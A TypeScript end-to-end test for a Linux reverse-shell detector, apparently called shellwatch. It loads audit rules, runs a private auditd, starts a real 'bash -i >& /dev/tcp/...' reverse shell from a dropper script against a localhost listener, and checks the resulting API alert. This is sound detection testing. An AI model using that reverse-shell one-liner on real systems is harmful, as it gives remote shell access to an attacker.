/**
 * A real Linux sensor, end to end (issue 12): the kernel audit subsystem with the shipped rule set
 * (rules/auditd/shellwatch.rules), a private Debian auditd writing an ENRICHED audit.log, `shellwatch
 * serve --follow` on that log, a real reverse shell (`bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1`) against
 * a listener on 127.0.0.1, and the alert found through the API.
 *
 * Needs root on Linux and Debian's auditd (`auditd`, `auditctl`); without them, or when the kernel
 * refuses audit control (no audit netlink, EPERM, no records within 5 s of a test execve), the test
 * says so and skips. If an audit daemon is already running, the test does not take the kernel's audit
 * stream from it: it loads its rules, follows that daemon's log_file (from /etc/audit/auditd.conf) and
 * removes its rules afterwards.
 *
 * It changes kernel audit state for its duration only: the enabled flag and backlog limit are
 * restored, the rules it added are deleted by key, and auditd and serve are stopped, on failure too
 * (finally, the after hook, and a last synchronous kill on exit).
 */
import { after, test, type TestContext } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { accessSync, constants, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type AddressInfo, type Server } from 'node:net';
import { hostname, tmpdir } from 'node:os';
import { delimiter, dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { setTimeout as sleep } from 'node:timers/promises';
import { about, poll } from '../helpers/wait.js';

const REPO = resolve(dirname(fileURLToPath(import.meta.url)), '..', '..');
const RULES = join(REPO, 'rules', 'auditd', 'shellwatch.rules');
const RULE_ID = 'shell-over-reverse-connection';
/** the whole test, setup and teardown included, never runs longer than this */
const GLOBAL_DEADLINE_MS = 180_000;
const ALERT_DEADLINE_MS = 30_000;
const PROBE_DEADLINE_MS = 5_000;

interface Run { status: number | null; stdout: string; stderr: string; error?: Error }

function run(cmd: string, args: string[], timeoutMs = 15_000): Run {
  const r = spawnSync(cmd, args, { encoding: 'utf8', timeout: timeoutMs });
  return { status: r.status, stdout: r.stdout ?? '', stderr: r.stderr ?? '', error: r.error };
}
const said = (r: Run) => (r.stderr.trim() || r.stdout.trim() || r.error?.message || `exit status ${r.status}`).replace(/\s+/g, ' ');
const refused = (r: Run) => /operation not permitted|permission denied|protocol not supported|address family not supported|EPERM|EPROTONOSUPPORT/i.test(said(r));

/** a program on PATH or in the sbin folders (root's PATH in CI may lack them) */
function which(name: string): string | undefined {
  const dirs = [...(process.env.PATH ?? '').split(delimiter), '/usr/sbin', '/sbin', '/usr/bin', '/bin'];
  for (const d of dirs) {
    if (!d) continue;
    const p = join(d, name);
    try {
      accessSync(p, constants.X_OK);
      return p;
    } catch { /* not here */ }
  }
  return undefined;
}

/** `auditctl -s` as a map (enabled, pid, backlog_limit …) */
function auditStatus(auditctl: string): { ok: true; status: Record<string, string> } | { ok: false; run: Run } {
  const r = run(auditctl, ['-s']);
  if (r.status !== 0) return { ok: false, run: r };
  const status: Record<string, string> = {};
  for (const line of r.stdout.split('\n')) {
    const m = /^(\w+)\s+(.*)$/.exec(line.trim());
    if (m) status[m[1]] = m[2].trim();
  }
  return { ok: true, status };
}

/** Polls `probe`, about `deadlineMs` of polls at most; undefined when it gives up (test/helpers/wait.ts). */
function until<T>(_what: string, deadlineMs: number, probe: () => T | undefined | Promise<T | undefined>, everyMs = 100): Promise<T | undefined> {
  return poll(probe, about(deadlineMs, everyMs));
}

const alive = (c: ChildProcess | undefined) => Boolean(c && c.exitCode === null && c.signalCode === null);

/** SIGTERM, then SIGKILL after `graceMs`; resolves once the process is gone */
async function stop(c: ChildProcess | undefined, graceMs = 5_000): Promise<void> {
  if (!c || !alive(c)) return;
  const gone = new Promise<void>((r) => c.once('exit', () => r()));
  c.kill('SIGTERM');
  const t = setTimeout(() => { if (alive(c)) c.kill('SIGKILL'); }, graceMs);
  await gone;
  clearTimeout(t);
}

// ---- what this test changed, so teardown can put it back ---------------------------------------------
const state: {
  auditctl?: string; origEnabled?: string; origBacklog?: string; keys: Set<string>;
  auditd?: ChildProcess; serve?: ChildProcess; shell?: ChildProcess; listener?: Server; dir?: string; done: boolean;
} = { keys: new Set(), done: false };

function keysOf(file: string): string[] {
  const keys = new Set<string>();
  for (const line of readFileSync(file, 'utf8').split('\n')) {
    if (/^\s*#/.test(line)) continue;
    for (const m of line.matchAll(/(?:-k\s+|-F\s+key=)(\S+)/g)) keys.add(m[1]);
  }
  return [...keys];
}

async function teardown(): Promise<void> {
  if (state.done) return;
  state.done = true;
  const problems: string[] = [];
  if (alive(state.shell)) state.shell!.kill('SIGKILL');
  state.listener?.close();
  await stop(state.serve);
  const auditctl = state.auditctl;
  if (auditctl) {
    for (const k of state.keys) {
      const r = run(auditctl, ['-D', '-k', k]);
      if (r.status !== 0) problems.push(`auditctl -D -k ${k}: ${said(r)}`);
    }
  }
  await stop(state.auditd);
  if (auditctl) {
    if (state.origBacklog !== undefined) run(auditctl, ['-b', state.origBacklog]);
    if (state.origEnabled === '0' || state.origEnabled === '1') {
      const r = run(auditctl, ['-e', state.origEnabled]);
      if (r.status !== 0) problems.push(`auditctl -e ${state.origEnabled}: ${said(r)}`);
    }
  }
  if (state.dir && !process.env.SHELLWATCH_KEEP_E2E) rmSync(state.dir, { recursive: true, force: true });
  if (problems.length) process.stderr.write(`auditd e2e teardown: ${problems.join('; ')}\n`);
}

after(teardown);
// last resort (an uncaught error, a runner timeout): never leave a daemon behind
process.once('exit', () => {
  for (const c of [state.shell, state.serve, state.auditd]) if (alive(c)) c!.kill('SIGKILL');
  if (state.auditctl && !state.done) {
    for (const k of state.keys) spawnSync(state.auditctl, ['-D', '-k', k]);
    if (state.origEnabled === '0' || state.origEnabled === '1') spawnSync(state.auditctl, ['-e', state.origEnabled]);
  }
});

// ---- steps --------------------------------------------------------------------------------------------

/** the log_file a running system auditd writes (its default config) */
function systemLogFile(): string | undefined {
  try {
    const m = /^\s*log_file\s*=\s*(\S+)/m.exec(readFileSync('/etc/audit/auditd.conf', 'utf8'));
    return m?.[1] ?? '/var/log/audit/audit.log';
  } catch {
    return existsSync('/var/log/audit/audit.log') ? '/var/log/audit/audit.log' : undefined;
  }
}

function writeAuditdConf(dir: string, log: string): void {
  mkdirSync(join(dir, 'plugins.d'), { mode: 0o700 });
  // auditd insists on a root-owned config that nobody else can write; no plugins (no syslog copy)
  writeFileSync(join(dir, 'auditd.conf'), [
    'local_events = yes', 'write_logs = yes', `log_file = ${log}`, 'log_format = ENRICHED',
    'flush = INCREMENTAL_ASYNC', 'freq = 1', 'name_format = HOSTNAME',
    'max_log_file = 256', 'max_log_file_action = IGNORE', 'num_logs = 1',
    'space_left = 2', 'space_left_action = IGNORE', 'admin_space_left = 1', 'admin_space_left_action = IGNORE',
    'disk_full_action = IGNORE', 'disk_error_action = IGNORE', `plugin_dir = ${join(dir, 'plugins.d')}`,
    'q_depth = 4000', 'overflow_action = IGNORE', 'end_of_event_timeout = 2', '',
  ].join('\n'), { mode: 0o600 });
}

/** Starts the private auditd; an error string (its own words) when it does not come up. */
async function startAuditd(auditdBin: string, auditctl: string, dir: string, log: string): Promise<string | undefined> {
  writeAuditdConf(dir, log);
  const d = spawn(auditdBin, ['-n', '-c', dir], { stdio: ['ignore', 'pipe', 'pipe'] });
  state.auditd = d;
  let out = '';
  d.stdout!.on('data', (b: Buffer) => { out += b.toString(); });
  d.stderr!.on('data', (b: Buffer) => { out += b.toString(); });
  const up = await until('auditd registered', 10_000, () => {
    if (!alive(d)) return false;
    const s = auditStatus(auditctl);
    return s.ok && s.status.pid === String(d.pid) && existsSync(log) ? true : undefined;
  });
  if (up) return undefined;
  await stop(d, 1_000);
  // -n sends its complaints to syslog; -f says them on stderr
  const f = run(auditdBin, ['-f', '-c', dir], 3_000);
  const why = (f.stderr + f.stdout).split('\n').filter((l) => !/parser called with|opened for parsing/.test(l)).join(' ').trim();
  return `auditd ${alive(d) ? 'did not register with the kernel' : `exited (${d.exitCode ?? d.signalCode})`}: ${(out.trim() || why || 'no message').replace(/\s+/g, ' ')}`;
}

async function startServe(data: string, log: string): Promise<{ base: string; token: string }> {
  const s = spawn(process.execPath, ['--import', 'tsx', join(REPO, 'src', 'cli', 'main.ts'), 'serve', '--data', data, '--listen', '127.0.0.1:0', '--follow', log], {
    cwd: REPO, stdio: ['ignore', 'pipe', 'pipe'],
  });
  state.serve = s;
  let err = '';
  s.stdout!.on('data', () => {});
  s.stderr!.on('data', (b: Buffer) => { err += b.toString(); });
  const base = await until('serve listening', 90_000, () => {
    const m = /listening on (https?:\/\/[^\s]+)/.exec(err);
    if (m) return m[1];
    if (!alive(s)) throw new Error(`shellwatch serve exited (${s.exitCode ?? s.signalCode}) before listening:\n${err}`);
    return undefined;
  }, 200);
  assert.ok(base, `shellwatch serve did not say where it listens within 90 s:\n${err}`);
  const ready = await until('serve ready', 30_000, async () => {
    if (!alive(s)) throw new Error(`shellwatch serve exited (${s.exitCode ?? s.signalCode}):\n${err}`);
    try {
      const r = await fetch(`${base}/api/v1/ready`, { signal: AbortSignal.timeout(2_000) });
      return r.status === 200 ? true : undefined;
    } catch { return undefined; }
  }, 250);
  assert.ok(ready, `GET /api/v1/ready was not 200 within 30 s:\n${err}`);
  const tokenFile = join(data, 'admin.token');
  assert.ok(existsSync(tokenFile), `serve wrote no ${tokenFile} on first start:\n${err}`);
  return { base, token: readFileSync(tokenFile, 'utf8').trim() };
}

/** A listener on 127.0.0.1 that types `id; exit` into whatever shell connects, and keeps what it says. */
async function startListener(): Promise<{ port: number; session: Promise<string> }> {
  let done!: (s: string) => void;
  const session = new Promise<string>((r) => { done = r; });
  const server = createServer((sock) => {
    let said = '';
    sock.on('data', (b: Buffer) => { said += b.toString(); });
    sock.on('close', () => done(said));
    sock.on('error', () => {});
    sock.write('id; exit\n');
  });
  state.listener = server;
  await new Promise<void>((r, j) => { server.once('error', j); server.listen(0, '127.0.0.1', () => r()); });
  return { port: (server.address() as AddressInfo).port, session };
}

interface ApiProcess { pid?: number | null; image?: string | null; commandLine?: string | null }
interface ApiAlert { id: string; rule: { id: string }; host: string; process: ApiProcess; parent: ApiProcess | null; reason?: string; event?: Record<string, unknown> }

async function listAlerts(base: string, token: string): Promise<ApiAlert[]> {
  const items: ApiAlert[] = [];
  let cursor: string | null = null;
  do {
    const q = new URLSearchParams({ rule: RULE_ID, limit: '200' });
    if (cursor) q.set('cursor', cursor);
    const r = await fetch(`${base}/api/v1/alerts?${q}`, { headers: { authorization: `Bearer ${token}` }, signal: AbortSignal.timeout(5_000) });
    assert.equal(r.status, 200, `GET /api/v1/alerts: ${r.status} ${await r.clone().text()}`);
    const page = await r.json() as { items: ApiAlert[]; next: string | null };
    assert.ok(Array.isArray(page.items), 'GET /api/v1/alerts answers {items, next}');
    items.push(...page.items);
    cursor = page.next;
  } while (cursor);
  return items;
}

// ---- the test -----------------------------------------------------------------------------------------

async function sensor(t: TestContext): Promise<void> {
  if (process.platform !== 'linux') return void t.skip('the Linux audit subsystem needs Linux');
  if (process.getuid?.() !== 0) return void t.skip('needs root: loading audit rules and running auditd take CAP_AUDIT_CONTROL');
  const auditctl = which('auditctl'), auditdBin = which('auditd');
  if (!auditctl || !auditdBin) return void t.skip(`Debian's auditd is not installed (${auditctl ? '' : 'auditctl '}${auditdBin ? '' : 'auditd '}missing; apt-get install auditd)`);

  const s0 = auditStatus(auditctl);
  if (!s0.ok) return void t.skip(`kernel refuses audit control: auditctl -s: ${said(s0.run)}`);
  const { enabled, pid, backlog_limit: backlog } = s0.status;
  if (enabled === '2') return void t.skip('kernel audit configuration is locked (enabled 2, auditctl -e 2 until reboot): rules cannot be loaded');
  state.auditctl = auditctl;
  state.origEnabled = enabled;

  const dir = mkdtempSync(join(tmpdir(), 'sw-e2e-auditd-'));
  state.dir = dir;
  let log = join(dir, 'audit.log');
  const systemDaemon = pid !== undefined && pid !== '0';
  if (systemDaemon) {
    const sys = systemLogFile();
    if (!sys || !existsSync(sys)) return void t.skip(`an audit daemon is already running (pid ${pid}) and its log file is not readable here: this test will not take the audit stream from it`);
    log = sys;
    t.diagnostic(`an audit daemon is already running (pid ${pid}): following its log ${log} (its log_format and name_format decide user and host names)`);
  } else {
    const why = await startAuditd(auditdBin, auditctl, dir, log);
    if (why) {
      if (/not permitted|permission denied|EPERM|netlink|protocol not supported/i.test(why)) return void t.skip(`kernel refuses audit control: ${why}`);
      assert.fail(`the private auditd did not start: ${why}`);
    }
  }

  const e = run(auditctl, ['-e', '1']);
  if (e.status !== 0) {
    if (refused(e)) return void t.skip(`kernel refuses audit control: auditctl -e 1: ${said(e)}`);
    assert.fail(`auditctl -e 1: ${said(e)}`);
  }
  if (backlog !== undefined && Number(backlog) < 8192) {
    state.origBacklog = backlog;
    run(auditctl, ['-b', '8192']);
  }

  for (const k of keysOf(RULES)) state.keys.add(k);
  assert.ok(state.keys.has('shellwatch_exec') && state.keys.has('shellwatch_net'), `${RULES} defines the shellwatch_exec and shellwatch_net keys`);
  const loaded = run(auditctl, ['-R', RULES]);
  if (loaded.status !== 0) {
    if (refused(loaded)) return void t.skip(`kernel refuses audit control: auditctl -R: ${said(loaded)}`);
    assert.fail(`auditctl -R ${RULES} failed (the rule set does not load on this kernel/auditctl): ${said(loaded)}`);
  }
  const listed = run(auditctl, ['-l']).stdout;
  assert.match(listed, /-S execve.*key=shellwatch_exec/, `the execve rules are loaded:\n${listed}`);
  assert.match(listed, /-S connect.*key=shellwatch_net/, `the connect rules are loaded:\n${listed}`);

  // does the kernel actually deliver? one marked execve must reach the log within 5 s
  const marker = `shellwatch-probe-${randomBytes(6).toString('hex')}`;
  run('/bin/echo', [marker]);
  const seen = await until('probe record', PROBE_DEADLINE_MS, () => {
    try { return readFileSync(log, 'utf8').includes(marker) ? true : undefined; } catch { return undefined; }
  }, 100);
  if (!seen) {
    const st = auditStatus(auditctl);
    return void t.skip(`kernel refuses audit control: no audit record of a test execve reached ${log} within 5 s (auditctl -s: ${st.ok ? JSON.stringify(st.status) : said(st.run)})`);
  }

  const { base, token } = await startServe(join(dir, 'data'), log);

  // the attack: a dropper script starts the classic bash reverse shell against our listener
  const { port, session } = await startListener();
  const dropper = join(dir, 'dropper.sh');
  writeFileSync(dropper, `#!/bin/sh\nbash -c 'bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1'\nexit 0\n`, { mode: 0o755 });
  const shell = spawn('/bin/sh', [dropper], { cwd: dir, stdio: 'ignore' });
  state.shell = shell;
  const shExit = new Promise<void>((r) => shell.once('exit', () => r()));
  const transcript = await Promise.race([session, sleep(20_000, undefined, { ref: false })]);
  assert.ok(transcript !== undefined, 'the reverse shell did not connect back and finish within 20 s');
  assert.match(transcript, /uid=0\(root\)/, `the reverse shell ran \`id\` for the listener; it said:\n${transcript}`);
  await Promise.race([shExit, sleep(5_000, undefined, { ref: false })]);

  const idiom = `/dev/tcp/127.0.0.1/${port}`;
  let last: ApiAlert[] = [];
  const alert = await until('alert', ALERT_DEADLINE_MS, async () => {
    last = await listAlerts(base, token);
    return last.find((a) => a.rule?.id === RULE_ID && (a.process?.commandLine ?? '').includes(idiom));
  }, 500);
  assert.ok(alert, `no ${RULE_ID} alert for ${idiom} through GET /api/v1/alerts within ${ALERT_DEADLINE_MS / 1000} s; ${last.length} alerts of that rule: ${JSON.stringify(last.map((a) => a.process?.commandLine))}`);

  t.diagnostic(`alert ${alert.id}: ${alert.reason ?? ''}`);
  assert.equal(alert.rule.id, RULE_ID);
  if (systemDaemon && !/^node=/m.test(readFileSync(log, 'utf8').slice(-65536))) {
    // name_format = NONE: the records name no host; say so rather than fail on the system's choice
    t.diagnostic(`the system auditd writes no node= (name_format = NONE): alert host is ${JSON.stringify(alert.host)}; set name_format = HOSTNAME`);
  } else {
    assert.ok(alert.host, 'the alert names the host');
    if (!systemDaemon) assert.equal(alert.host, hostname(), 'the host is the node= name auditd wrote (name_format = HOSTNAME)');
  }
  assert.match(alert.process.image ?? '', /\/bash$/, `process.image is the bash that was started: ${JSON.stringify(alert.process)}`);
  assert.match(alert.process.commandLine ?? '', /^bash -c .*bash -i >& \/dev\/tcp\/127\.0\.0\.1\/\d+ 0>&1/, 'process.commandLine is the reverse shell as typed');
  assert.ok(typeof alert.process.pid === 'number' && alert.process.pid > 0, 'process.pid');
  assert.ok(alert.parent, 'the alert has a parent');
  assert.equal(alert.parent.pid, shell.pid, 'the parent is the dropper shell this test started');
  assert.match(alert.parent.image ?? '', /\/(dash|sh|bash)$/, `parent.image is the dropper's /bin/sh (from its own execve record): ${JSON.stringify(alert.parent)}`);
  assert.ok((alert.parent.commandLine ?? '').includes(dropper), `parent.commandLine runs the dropper: ${JSON.stringify(alert.parent)}`);
  // the dropper itself is not a reverse shell: one alert for the one process that is
  assert.ok(!last.some((a) => a.process?.pid === shell.pid), 'the dropper shell itself raises no reverse-shell alert');
}

test('auditd → shellwatch serve: a real bash reverse shell on 127.0.0.1 is alerted through the API', { timeout: GLOBAL_DEADLINE_MS }, async (t) => {
  try {
    await sensor(t);
  } finally {
    await teardown();
  }
});
